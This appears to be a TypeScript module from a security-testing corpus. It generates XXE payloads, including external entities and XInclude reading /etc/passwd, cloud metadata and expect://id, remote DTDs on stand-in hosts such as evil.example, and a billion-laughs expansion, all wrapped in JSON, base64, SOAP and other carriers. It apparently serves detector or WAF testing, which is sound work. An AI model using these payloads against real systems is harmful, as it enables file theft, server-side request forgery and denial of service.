import type { Random } from '../../../random.js';
import type { Attack, Generator } from '../../attack.js';
import { writeByGrammar, writeDistinct } from '../../grammar.js';

/** Whole documents inside other things: JSON, forms, cookies, headers, base64 of SAML bindings, CDATA of SOAP. */
export const carriedDocument: Generator = {
  family: 'xxe',
  name: 'carried-document',
  generate: (random, count) =>
    writeDistinct<Attack>(
      count,
      () => write(random),
      ({ text, position }) => `${position.location} ${text}`,
    ),
};

function write(random: Random): Attack {
  const document = writeByGrammar(random, RULES);
  const [location, carry] = random.pick(CARRIERS);
  return {
    family: 'xxe',
    text: carry(document, random),
    position: { ...(location === undefined ? {} : { location }), context: 'carried', dialect: 'carried' },
    origin: 'carried-document',
    mutations: [],
  };
}

type Carrier = readonly [location: Attack['position']['location'], carry: (document: string, random: Random) => string];

const base64 = (document: string): string => Buffer.from(document).toString('base64');
const escaped = (document: string): string => document.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

const CARRIERS: readonly Carrier[] = [
  [undefined, (document) => document],
  ['json_values', (document) => document],
  ['cookies', (document) => document],
  ['qs_values', (document) => document],
  ['post_values', (document) => document],
  ['post_values', base64],
  ['json_values', base64],
  ['cookies', base64],
  ['post_values', encodeURIComponent],
  ['qs_values', (document) => encodeURIComponent(encodeURIComponent(document))],
  ['qs_values', (document) => `data:text/xml,${encodeURIComponent(document)}`],
  ['post_values', (document) => `data:image/svg+xml;base64,${base64(document)}`],
  ['json_values', (document) => `data:application/xml;charset=utf-8,${document}`],
  ['text', (document, random) => JSON.stringify({ [random.pick(['xml', 'body', 'svg', 'doc'])]: document })],
  ['text', (document) => JSON.stringify({ a: [{ b: JSON.stringify({ xml: document }) }] })],
  [
    'text',
    (document) =>
      `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><in><![CDATA[${document}]]></in></s:Body></s:Envelope>`,
  ],
  [
    'text',
    (document) =>
      `<methodCall><params><param><value><string>${escaped(document)}</string></value></param></params></methodCall>`,
  ],
  ['post_values', (document, random) => `${random.pick(['report ', 'xml=', '﻿', '\n\n', 'x\n'])}${document}`],
  ['json_values', (document) => document.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e')],
  ['headers_values', base64],
];

const RULES = {
  start: ['{decl}{doctype}'],
  decl: ['', '', '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.1"?>'],
  doctype: [
    '<!DOCTYPE {r:r} [<!ENTITY {e:e} SYSTEM "{t}">]><{r:r}>&{e:e};</{r:r}>',
    '<!DOCTYPE {r:r} [<!ENTITY % {e:e} SYSTEM "{t}"> %{e:e};]><{r:r}/>',
    '<!DOCTYPE {r:r} SYSTEM "{t}"><{r:r}/>',
    '<!DOCTYPE {r:r} PUBLIC "{r}" "{t}"><{r:r}/>',
    '<!DOCTYPE {r:r} [\n<!ENTITY {e:e} PUBLIC "x" "{t}">\n]>\n<{r:r}>&{e:e};</{r:r}>',
    '<{r:r} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{t}" parse="text"/></{r:r}>',
    '<{r:r}><i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="{t}"><i:fallback/></i:include></{r:r}>',
    '<!DOCTYPE {r:r} [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><{r:r}>&d;&d;&d;</{r:r}>',
  ],
  r: ['r', 'data', 'order', 'samlp:AuthnRequest', 'svg', 'feed', 'user'],
  e: ['x', 'xxe', 'f', 'e1', 'ent'],
  t: [
    'file:///etc/passwd',
    '/etc/hosts',
    'file:///c:/windows/win.ini',
    'http://203.0.113.8/x',
    'http://evil.example/a.dtd',
    'https://x.oast.example/',
    'ftp://198.51.100.7/d',
    'http://169.254.169.254/latest/',
    'php://filter/resource=/etc/passwd',
    'expect://id',
    'netdoc:///etc/passwd',
    'jar:http://evil.example/a!/b',
    '\\\\evil.example\\x',
  ],
};
